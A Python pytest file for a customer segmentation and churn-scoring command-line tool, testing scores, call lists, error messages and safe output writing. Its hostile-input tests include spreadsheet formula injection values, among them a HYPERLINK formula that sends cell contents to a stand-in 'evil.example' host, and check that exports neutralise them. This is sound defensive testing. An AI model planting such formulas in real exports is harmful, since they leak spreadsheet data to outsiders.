"""The batch CLI on the sample and on bad input (run as a real subprocess)."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "data" / "sample"
REQUIRED = ["customer_id", "recency_days", "frequency", "monetary_total", "tier", "rfm_segment",
            "churn_risk", "p_alive", "clv_12m", "risk_reasons", "cluster", "persona"]


@pytest.fixture(scope="module")
def scored_run(tmp_path_factory) -> tuple[pd.DataFrame, subprocess.CompletedProcess, Path]:
    out = tmp_path_factory.mktemp("cli") / "scores.csv"
    proc = run_cli("score", "--transactions", str(SAMPLE / "transactions.parquet"),
                   "--customers", str(SAMPLE / "customers.parquet"),
                   "--surveys", str(SAMPLE / "surveys.parquet"),
                   "--complaints", str(SAMPLE / "complaints.parquet"),
                   "--as-of", "2025-03-31", "--calls-per-branch", "5", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    return pd.read_csv(out, encoding="utf-8-sig", dtype={"customer_id": str}), proc, out


def run_cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "segmentation", *args], cwd=ROOT,
                          capture_output=True, text=True, timeout=300)


@pytest.fixture(scope="module")
def scored(scored_run) -> pd.DataFrame:
    return scored_run[0]


def test_cli_scores_every_customer_of_the_sample(scored):
    tx = pd.read_parquet(SAMPLE / "transactions.parquet")
    active = tx.loc[(tx["date"] <= "2025-03-31"), "customer_id"].nunique()
    assert list(scored.columns[: len(REQUIRED)]) == REQUIRED
    assert len(scored) == active and scored["customer_id"].is_unique
    shares = scored["tier"].value_counts(normalize=True)
    assert shares["vip"] == pytest.approx(0.10, abs=0.01)
    assert shares["low"] == pytest.approx(0.40, abs=0.02)
    assert scored["rfm_segment"].nunique() == 11
    assert scored["recency_days"].min() >= 0


def test_cli_fills_churn_columns(scored):
    assert scored["churn_risk"].between(0, 1).all()
    assert scored["p_alive"].between(0, 1).all()
    assert (scored["clv_12m"] >= 0).all()
    assert scored["risk_reasons"].fillna("").str.len().gt(0).all()
    assert set(scored["status"]) <= {"ok", "warning", "lost"}
    high = scored[scored["churn_risk"] >= scored["churn_risk"].quantile(0.9)]
    risky = "no shipment|down|fell|complaint|rarely|only one shipment|new customer"
    assert high["risk_reasons"].str.contains(risky).all()


def test_cli_assigns_clusters_and_personas(scored):
    assert sorted(scored["cluster"].unique()) == list(range(6))
    names = scored.groupby("cluster")["persona"].unique()
    assert names.map(len).eq(1).all() and names.map(lambda n: n[0]).is_unique
    spend = scored.groupby("cluster")["monetary_total"].median()
    assert spend.idxmax() == 0  # clusters are numbered by value


def test_cli_frequency_matches_the_raw_file(scored):
    tx = pd.read_parquet(SAMPLE / "transactions.parquet")
    tx = tx[(tx["date"] <= "2025-03-31") & (tx["amount"] >= 0)]  # amount 0 is an order too
    expected = tx.groupby("customer_id")["date"].nunique()
    got = scored.set_index("customer_id")["frequency"]
    assert (got.reindex(expected.index) == expected).all()


def test_cli_preset_changes_tier_shares(tmp_path):
    preset = tmp_path / "preset.json"
    preset.write_text(json.dumps({"tiers": ["gold", "rest"], "shares": [0.25, 0.75]}))
    out = tmp_path / "scores.parquet"
    proc = run_cli("score", "--transactions", str(SAMPLE / "transactions.parquet"),
                   "--preset", str(preset), "--no-churn", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    tiers = pd.read_parquet(out)["tier"].value_counts(normalize=True)
    assert set(tiers.index) == {"gold", "rest"}
    assert tiers["gold"] == pytest.approx(0.25, abs=0.01)


@pytest.mark.parametrize(
    ("content", "extra", "message"),
    [
        ("client,when\nA,2024-01-01\n", [], "required column 'customer_id' was not found"),
        ("customer_id,date,amount\n", [], "no data rows"),
        (None, [], "file not found"),
        ("customer_id,date,amount\nA,2024-01-01,3\n", ["--as-of", "someday"],
         "--as-of 'someday' is not a date"),
    ],
    ids=["wrong-columns", "empty", "missing-file", "bad-as-of"],
)
def test_cli_bad_input_exits_nonzero_with_one_line(tmp_path, content, extra, message):
    path = tmp_path / "tx.csv"
    if content is not None:
        path.write_text(content, encoding="utf-8")
    proc = run_cli("score", "--transactions", str(path), "--out", str(tmp_path / "o.csv"),
                   *extra)
    assert proc.returncode == 2
    lines = proc.stderr.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ")
    assert message in lines[0]
    assert not (tmp_path / "o.csv").exists()


def test_cli_messages_in_chinese(tmp_path):
    path = tmp_path / "tx.csv"
    path.write_text("client,when\nA,2024-01-01\n", encoding="utf-8")
    proc = run_cli("score", "--transactions", str(path), "--out", str(tmp_path / "o.csv"),
                   "--lang", "zh")
    assert proc.returncode == 2 and "客户编号" in proc.stderr


def test_cli_churn_equals_what_the_page_computes(scored, tmp_path):
    """The page calls score_churn on the workspace holding the same (validated) data."""
    from segmentation.churn import score_churn
    from segmentation.workspace import Workspace, load_sample

    ws = Workspace(tmp_path / "ws")
    load_sample(ws)
    page = score_churn(ws.engine(), as_of=pd.Timestamp("2025-03-31")).scores
    cli = scored.set_index("customer_id")
    assert set(page.index) == set(cli.index)
    diff = (page["churn_risk"] - cli.loc[page.index, "churn_risk"]).abs()
    assert diff.max() < 1e-9
    assert (page["risk_reasons"] == cli.loc[page.index, "risk_reasons"]).all()


def test_cli_names_the_ranking_and_writes_the_call_list(scored_run):
    scored, proc, out = scored_run
    churn_lines = [line for line in proc.stderr.splitlines() if line.startswith("churn: ")]
    assert len(churn_lines) == 1
    assert churn_lines[0].startswith("churn: Ranked by the ")
    assert "ROC-AUC" in churn_lines[0]
    calls = pd.read_csv(out.with_name("scores.calls.csv"), encoding="utf-8-sig",
                        dtype={"customer_id": str})
    warned = scored[scored["status"] == "warning"]
    assert set(calls["customer_id"]) == set(warned["customer_id"])
    week = calls[calls["call_this_week"]]
    assert week.groupby("branch").size().max() == 5
    assert calls["call_this_week"].is_monotonic_decreasing  # this week's calls first
    assert week["value_at_risk"].is_monotonic_decreasing
    # each branch's calls are its 5 highest values at risk (ties: risk, then customer id)
    top = warned.sort_values(["value_at_risk", "churn_risk", "customer_id"],
                             ascending=[False, False, True]).groupby("branch").head(5)
    assert set(week["customer_id"]) == set(top["customer_id"])
    assert f"call list: {len(week):,} calls this week (up to 5 per branch)" in proc.stdout


def test_cli_takes_the_capacity_from_the_preset(tmp_path):
    preset = tmp_path / "preset.json"
    preset.write_text(json.dumps({"tiers": ["gold", "rest"], "shares": [0.25, 0.75],
                                  "churn": {"calls_per_branch": 3}}))
    out = tmp_path / "scores.parquet"
    proc = run_cli("score", "--transactions", str(SAMPLE / "transactions.parquet"),
                   "--customers", str(SAMPLE / "customers.parquet"), "--preset", str(preset),
                   "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    calls = pd.read_parquet(tmp_path / "scores.calls.parquet")
    assert calls.loc[calls["call_this_week"]].groupby("branch").size().max() == 3
    bad = tmp_path / "bad.json"
    bad.write_text(json.dumps({"churn": {"calls_per_branch": 0}}))
    proc = run_cli("score", "--transactions", str(SAMPLE / "transactions.parquet"),
                   "--preset", str(bad), "--out", str(tmp_path / "x.csv"))
    assert proc.returncode == 2 and "churn.calls_per_branch" in proc.stderr


def _nine_months(folder: Path) -> list[str]:
    args = []
    end = pd.read_parquet(SAMPLE / "transactions.parquet")["date"].max()
    for name in ("transactions", "customers", "surveys", "complaints"):
        frame = pd.read_parquet(SAMPLE / f"{name}.parquet")
        if name != "customers":
            frame = frame[frame["date"] > end - pd.Timedelta(days=270)]
        frame.to_parquet(folder / f"{name}.parquet")
        args += [f"--{name}", str(folder / f"{name}.parquet")]
    return args


def _one_branch(folder: Path) -> list[str]:
    tx = pd.read_parquet(SAMPLE / "transactions.parquet")
    tx = tx[tx["date"] > tx["date"].max() - pd.Timedelta(days=180)]
    branch = tx["branch"].value_counts().index[0]
    ids = tx.loc[tx["branch"] == branch, "customer_id"].drop_duplicates().head(60)
    tx[tx["customer_id"].isin(ids)].to_csv(folder / "branch.csv", index=False)
    return ["--transactions", str(folder / "branch.csv")]


@pytest.mark.parametrize(("make", "n", "model"), [
    # every customer with a shipment in the nine months (counted from the file below)
    (_nine_months, None, "the time-shifted model (gradient boosting)"),
    # 60 customers: nothing is sure to beat the rule, which ranks, and the figures are
    # said to be uncertain
    (_one_branch, 60, "days since the last shipment: no other ranking beat it"),
], ids=["nine-months", "one-branch-60"])
def test_cli_fills_churn_on_short_and_small_data(tmp_path, make, n, model):
    out = tmp_path / "scores.csv"
    proc = run_cli("score", *make(tmp_path), "--calls-per-branch", "20", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    assert "churn columns left empty" not in proc.stderr
    scored = pd.read_csv(out, encoding="utf-8-sig")
    if n is None:
        n = pd.read_parquet(tmp_path / "transactions.parquet")["customer_id"].nunique()
        assert n > 10_000
    assert len(scored) == n
    assert scored["churn_risk"].notna().all() and scored["churn_risk"].between(0, 1).all()
    assert scored["risk_reasons"].fillna("").str.len().gt(0).all()
    assert f"churn: Ranked by {model}" in proc.stderr
    # every candidate's figures with their spread across the backtest windows
    assert "Backtest, mean over 3 windows (lowest to highest)" in proc.stderr
    assert (tmp_path / "scores.calls.csv").exists()


def test_cli_nine_months_of_slow_shippers_fill_churn(tmp_path):
    """The issue's failure: the cycle asks for H = 180 on 269 days; it used to end with
    "churn columns left empty: only 0 customers to learn from at the cutoff"."""
    tx = pd.read_parquet(SAMPLE / "transactions.parquet")
    tx = tx[tx["date"] > tx["date"].max() - pd.Timedelta(days=270)]
    tx[tx["date"].dt.day_of_year % 4 == 0].to_parquet(tmp_path / "tx.parquet")
    out = tmp_path / "scores.csv"
    proc = run_cli("score", "--transactions", str(tmp_path / "tx.parquet"), "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    assert "left empty" not in proc.stderr and "90-day outcomes" in proc.stderr
    assert pd.read_csv(out)["churn_risk"].notna().all()


def test_cli_too_little_data_says_what_is_missing(tmp_path):
    path = tmp_path / "tx.csv"
    path.write_text("customer_id,date,amount\n"
                    + "".join(f"C{i % 5},2025-01-{i + 1:02d},10\n" for i in range(20)),
                    encoding="utf-8")
    proc = run_cli("score", "--transactions", str(path), "--out", str(tmp_path / "o.csv"),
                   "--lang", "zh")
    assert proc.returncode == 0, proc.stderr
    assert ("warning: churn columns left empty: 流失预警至少需要 20 位有购买记录的客户；"
            "当前数据只有 5 位") in proc.stderr


# --------------------------------------------------------------------------- hostile input
# The corpus of tests/hostile.py through the CLI, in-process (main() returns the exit code;
# an exception escaping it would be the traceback a user sees).

from segmentation.cli import main  # noqa: E402
from tests.hostile import CASES, TODAY, csv_bytes  # noqa: E402


def _errors(err: str) -> list[str]:
    """The stderr lines that are not warnings (one ``error:`` line on failure, nothing else)."""
    return [line for line in err.strip().splitlines() if not line.startswith("warning: ")]


def _write_files(case, folder: Path) -> list[str]:
    args = []
    for table, (name, data) in case.files.items():
        path = folder / name
        path.write_bytes(data)
        args += [f"--{table}", str(path)]
    return args


@pytest.mark.parametrize("lang", ["en", "zh"])
@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_cli_hostile_corpus(case, lang, tmp_path, capsys):
    out = tmp_path / "out" / "scores.xlsx"
    code = main(["score", *_write_files(case, tmp_path), "--no-churn", "--clusters", "2",
                 "--lang", lang, "--out", str(out)])
    err = capsys.readouterr().err
    assert "Traceback" not in err
    fragment = case.en if lang == "en" else case.zh
    if case.outcome == "loaded":
        assert code == 0, err
        scored = pd.read_excel(out, dtype={"customer_id": str})
        assert len(scored) == case.customers
        if case.code:
            warnings = [line for line in err.splitlines() if line.startswith("warning: ")]
            assert any(fragment in line for line in warnings), err
    else:
        assert code == 2
        lines = err.strip().splitlines()
        assert len(lines) == 1 and lines[0].startswith("error: ")
        assert fragment in lines[0]
        assert not out.exists() and not list((tmp_path / "out").glob("*"))


HOSTILE_NAMES = ["=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")", "@SUM(A1:A9)",
                 "+86 138 0000 0000", "-2+3", "\tcmd", "Zhang\x00Wei\x0b"]


@pytest.fixture
def formula_files(tmp_path) -> list[str]:
    ids = ["=1+1", "@C2", "C3", "-C4", "C5", "C6"]
    tx = [["customer_id", "date", "amount"]] + [
        [ids[i % 6], f"2024-01-{10 + i}", 10 + i] for i in range(18)]
    customers = [["customer_id", "name"]] + [[ids[i], HOSTILE_NAMES[i]] for i in range(6)]
    (tmp_path / "tx.csv").write_bytes(csv_bytes(tx))
    # quoted, so that the commas and quotes inside the names stay in one field
    pd.DataFrame(customers[1:], columns=customers[0]).to_csv(tmp_path / "c.csv", index=False)
    return ["--transactions", str(tmp_path / "tx.csv"), "--customers", str(tmp_path / "c.csv")]


def test_cli_csv_output_has_no_live_formulas(formula_files, tmp_path, capsys):
    out = tmp_path / "scores.csv"
    assert main(["score", *formula_files, "--no-churn", "--clusters", "2", "--out",
                 str(out)]) == 0
    capsys.readouterr()
    back = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    cells = back.to_numpy().ravel()
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=1+1" in back["customer_id"].tolist()
    assert "'=HYPERLINK(\"http://evil.example/?\"&A2,\"click\")" in back["name"].tolist()


def test_cli_xlsx_output_has_no_formula_cells_and_no_control_characters(formula_files,
                                                                       tmp_path, capsys):
    import openpyxl

    out = tmp_path / "scores.xlsx"
    assert main(["score", *formula_files, "--no-churn", "--clusters", "2", "--out",
                 str(out)]) == 0
    err = capsys.readouterr().err
    assert "invisible control characters" in err  # the NUL / \x0b in a name, at load time
    sheet = openpyxl.load_workbook(out).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    values = {c.value for c in cells}
    assert "'@SUM(A1:A9)" in values and "ZhangWei" in values and "'=1+1" in values


def test_cli_future_date_is_not_the_default_analysis_date(tmp_path, capsys):
    rows = [["customer_id", "date", "amount"]] + [
        [f"C{i % 3}", f"2024-03-{i + 1:02d}", 10] for i in range(15)] + [
        ["C0", "2099-01-01", 10]]
    (tmp_path / "tx.csv").write_bytes(csv_bytes(rows))
    out = tmp_path / "o.csv"
    assert main(["score", "--transactions", str(tmp_path / "tx.csv"), "--no-churn",
                 "--clusters", "2", "--out", str(out)]) == 0
    assert "dated in the future (after " + TODAY.strftime("%Y-%m-%d") in capsys.readouterr().err
    scored = pd.read_csv(out, encoding="utf-8-sig").set_index("customer_id")
    # as_of is 2024-03-15 (the last real date), not 2099-01-01
    assert scored["recency_days"].min() == 0
    assert scored.loc["C2", "recency_days"] == 0 and scored.loc["C0", "recency_days"] == 2
    assert scored.loc["C0", "frequency"] == 5


def test_cli_keeps_no_partial_file_when_writing_fails(tmp_path, capsys, monkeypatch):
    from segmentation import export

    (tmp_path / "tx.csv").write_bytes(csv_bytes([["customer_id", "date", "amount"]] + [
        [f"C{i % 3}", f"2024-03-{i + 1:02d}", 10] for i in range(9)]))
    out = tmp_path / "scores.xlsx"
    out.write_bytes(b"yesterday's scores")

    def broken(target, sheets, headers):
        target.write(b"PK\x03\x04 half a workbook")
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(export, "_write_excel", broken)
    code = main(["score", "--transactions", str(tmp_path / "tx.csv"), "--no-churn",
                 "--clusters", "2", "--out", str(out)])
    err = _errors(capsys.readouterr().err)
    assert code == 2 and len(err) == 1
    assert err[0] == (f"error: --out {out}: the file could not be written (No space left on "
                      "device); nothing was written")
    assert out.read_bytes() == b"yesterday's scores"  # the old file is untouched
    assert main(["score", "--transactions", str(tmp_path / "tx.csv"), "--no-churn",
                 "--clusters", "2", "--lang", "zh", "--out", str(out)]) == 2
    assert _errors(capsys.readouterr().err) == [
        f"error: --out {out}：无法写入文件（No space left on device），未写入任何内容"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["scores.xlsx", "tx.csv"]
    monkeypatch.setattr(export, "_write_excel", lambda *a: (_ for _ in ()).throw(
        RuntimeError("boom\nsecond line")))
    assert main(["score", "--transactions", str(tmp_path / "tx.csv"), "--no-churn",
                 "--clusters", "2", "--lang", "zh", "--out", str(out)]) == 1
    err = _errors(capsys.readouterr().err)
    assert err == ["error: 发生意外问题（RuntimeError：boom second line），未写入输出文件"]
    assert main(["score", "--transactions", str(tmp_path / "tx.csv"), "--no-churn",
                 "--clusters", "2", "--out", str(out)]) == 1
    assert _errors(capsys.readouterr().err) == [
        "error: unexpected problem (RuntimeError: boom second line); no output file was written"]
    assert out.read_bytes() == b"yesterday's scores"


def test_cli_output_folder_that_cannot_be_written(tmp_path, capsys):
    (tmp_path / "tx.csv").write_bytes(csv_bytes([["customer_id", "date", "amount"]] + [
        [f"C{i % 3}", f"2024-03-{i + 1:02d}", 10] for i in range(9)]))
    (tmp_path / "taken").write_text("a file, not a folder")
    code = main(["score", "--transactions", str(tmp_path / "tx.csv"), "--no-churn",
                 "--clusters", "2", "--out", str(tmp_path / "taken" / "o.csv")])
    err = _errors(capsys.readouterr().err)
    assert code == 2 and len(err) == 1 and "could not be written" in err[0]


def test_cli_hostile_xlsx_output_in_a_real_process(tmp_path):
    """Regression: NUL in an id made `--out x.xlsx` exit 1 with a traceback and a header-only
    file; now the id is cleaned at load time and the workbook is written."""
    rows = [["customer_id", "date", "amount"]] + [
        [f"C\x00{i % 3}" if i % 2 else f"C{i % 3}", f"2024-03-{i + 1:02d}", 10]
        for i in range(9)]
    (tmp_path / "tx.csv").write_bytes(csv_bytes(rows))
    out = tmp_path / "o.xlsx"
    proc = run_cli("score", "--transactions", str(tmp_path / "tx.csv"), "--no-churn",
                   "--clusters", "2", "--out", str(out))
    assert proc.returncode == 0, proc.stderr
    assert "Traceback" not in proc.stderr
    assert sorted(pd.read_excel(out)["customer_id"]) == ["C0", "C1", "C2"]


@pytest.mark.parametrize(("order", "recency"), [("day-first", {"C1": 0, "C2": 59}),
                                                ("month-first", {"C1": 29, "C2": 0}),
                                                ("auto", {"C1": 29, "C2": 0})])
def test_cli_date_order(order, recency, tmp_path, capsys):
    (tmp_path / "tx.csv").write_bytes(csv_bytes([["customer_id", "date", "amount"],
                                                 ["C1", "01/03/2024", 5], ["C2", "02/01/2024", 6]]))
    out = tmp_path / "o.csv"
    assert main(["score", "--transactions", str(tmp_path / "tx.csv"), "--date-order", order,
                 "--no-churn", "--clusters", "2", "--out", str(out)]) == 0
    err = capsys.readouterr().err
    assert ("could be day/month or month/day" in err) == (order == "auto")
    scored = pd.read_csv(out, encoding="utf-8-sig").set_index("customer_id")
    assert scored["recency_days"].to_dict() == recency


def test_cli_scores_a_loaded_workspace_as_it_scores_the_files(scored_run, tmp_path):
    """``--workspace DIR`` scores the dataset loaded there: the same file as scoring the
    files it was loaded from."""
    from segmentation.workspace import Workspace, load_sample

    load_sample(Workspace(tmp_path / "ws"))
    out = tmp_path / "scores.csv"
    proc = run_cli("score", "--workspace", str(tmp_path / "ws"), "--as-of", "2025-03-31",
                   "--calls-per-branch", "5", "--out", str(out))
    assert proc.returncode == 0, proc.stderr

    def read(path: Path) -> pd.DataFrame:
        return pd.read_csv(path, encoding="utf-8-sig", dtype={"customer_id": str})

    # the same file, up to the last digit of sums (DuckDB adds in parallel, in any order)
    pd.testing.assert_frame_equal(read(out), scored_run[0], check_exact=False, rtol=1e-9)
    pd.testing.assert_frame_equal(read(tmp_path / "scores.calls.csv"),
                                  read(scored_run[2].with_name("scores.calls.csv")),
                                  check_exact=False, rtol=1e-9)


@pytest.mark.parametrize(
    ("extra", "message"),
    [([], "no dataset is loaded there"),
     (["--transactions", str(SAMPLE / "transactions.parquet")],
      "use one of --database, --workspace or files")],
    ids=["empty-workspace", "workspace-and-files"],
)
def test_cli_workspace_refusals_are_one_line(tmp_path, extra, message):
    proc = run_cli("score", "--workspace", str(tmp_path / "empty"), *extra,
                   "--out", str(tmp_path / "o.csv"))
    assert proc.returncode == 2
    lines = proc.stderr.strip().splitlines()
    assert lines == [lines[0]] and lines[0].startswith("error: ") and message in lines[0]
    assert not (tmp_path / "o.csv").exists()
